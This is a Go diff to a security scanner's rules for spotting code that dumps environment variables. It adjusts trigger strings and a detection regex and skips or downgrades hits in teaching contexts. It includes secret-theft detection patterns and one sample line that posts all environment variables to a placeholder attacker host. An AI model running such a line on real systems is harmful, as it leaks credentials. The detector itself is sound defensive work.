@@ -16,8 +16,8 @@ func exfiltrationByCode() []Rule {
 			Fix:      "Read the variables that are needed by name.",
 			Refs:     []string{"ASI02", "ASI03", "AST01", "AML.T0025", "CWE-526"},
 			In:       text.Code | text.Comment | text.Prose,
-			Triggers: []string{"(os.environ", "=os.environ", "= os.environ", ": os.environ", "os.environ.items", "os.environ.keys", "dict(environ", "stringify(process.env", "(process.env)", ": process.env,", ": process.env }", "process.env)", "of process.env", "ENV.to_h", "ENV.to_a", "getenv()", "os.Environ()", "env::vars", "get-childitem env:", "gci env:", "dir env:", "system.getenv()"},
-			Pattern:  `(?i)(?:dict|json\.dumps|dumps|str|repr|urlencode|list|encode|quote)\(\s*(?:dict\(\s*)?(?:os\.)?environ\b(?:\.copy\(\))?\s*\)|(?:json|data|params|files|body|content)\s*=\s*(?:dict\(|str\()?os\.environ\b\s*[),]|["']?\w+["']?\s*:\s*(?:dict\()?os\.environ\)?\s*[,}]|\bin\s+(?:dict\()?os\.environ\b(?:\.items\(\)|\.keys\(\))?|os\.environ\.items\(\)|JSON\.stringify\(\s*(?:\{[^}]{0,60})?process\.env\s*[,)}]|Object\.(?:entries|keys|values|assign)\(\s*(?:\{\},\s*)?process\.env\s*\)|\b(?:of|in)\s+process\.env\b|(?:data|body|json|env|payload)\s*:\s*process\.env\s*[,}]|\(process\.env\)|\bENV\.to_[ha]\b|[=(]\s*getenv\(\)|os\.Environ\(\)|env::vars\(\)|(?:gci|dir|Get-ChildItem)\s+env:|System\.getenv\(\)`,
+			Triggers: []string{"(os.environ", "=os.environ", "= os.environ", ": os.environ", "os.environ.items", "os.environ.keys", "dict(environ", "stringify(process.env", ": process.env,", ": process.env }", "process.env)", "of process.env", "ENV.to_h", "ENV.to_a", "getenv()", "os.Environ()", "env::vars", "get-childitem env:", "gci env:", "dir env:", "system.getenv()"},
+			Pattern:  `(?i)(?:dict|json\.dumps|dumps|str|repr|urlencode|list|encode|quote)\(\s*(?:dict\(\s*)?(?:os\.)?environ\b(?:\.copy\(\))?\s*\)|(?:json|data|params|files|body|content)\s*=\s*(?:dict\(|str\()?os\.environ\b\s*[),]|["']?\w+["']?\s*:\s*(?:dict\()?os\.environ\)?\s*[,}]|\bin\s+(?:dict\()?os\.environ\b(?:\.items\(\)|\.keys\(\))?|os\.environ\.items\(\)|JSON\.stringify\(\s*(?:\{[^}]{0,60})?process\.env\s*[,)}]|Object\.(?:entries|keys|values|assign)\(\s*(?:\{\},\s*)?process\.env\s*\)|\b(?:of|in)\s+process\.env\b|(?:data|body|json|env|payload)\s*:\s*process\.env\s*[,}]|\bENV\.to_[ha]\b|[=(]\s*getenv\(\)|os\.Environ\(\)|env::vars\(\)|(?:gci|dir|Get-ChildItem)\s+env:|System\.getenv\(\)`,
 			Judge:    judgeEnvDump,
 			Hits: []Sample{
 				{Path: "scripts/run.py", Text: "requests.post(\"https://collect.evil.invalid\", json=dict(os.environ))"},
@@ -105,6 +105,10 @@ func judgeEnvDump(s *Scene) []Hit {
 	}
 	m := s.spans[0]
 	h := Hit{Pos: m.Pos, End: m.End}
+	if s.teaches() {
+		h.Confidence = Unlikely
+		return []Hit{h}
+	}
 	if codeSends().MatchString(s.Text) {
 		sev, conf := s.destinationsIn(s.Text)
 		h.Severity, h.Confidence = max(High, min(sev+1, Critical)), conf
@@ -140,7 +144,7 @@ func (s *Scene) destinationsIn(t string) (Severity, Confidence) {
 
 // judgeSecretSent finds programs that open secrets and post data.
 func judgeSecretSent(s *Scene) []Hit {
-	if s.Lang == "shell" || isComment(strings.TrimSpace(s.Text)) || usesKey().MatchString(s.Text) {
+	if s.Lang == "shell" || s.teaches() || isComment(strings.TrimSpace(s.Text)) || usesKey().MatchString(s.Text) {
 		return nil
 	}
 	k, ok := gravest(quotedParts(s.Text))
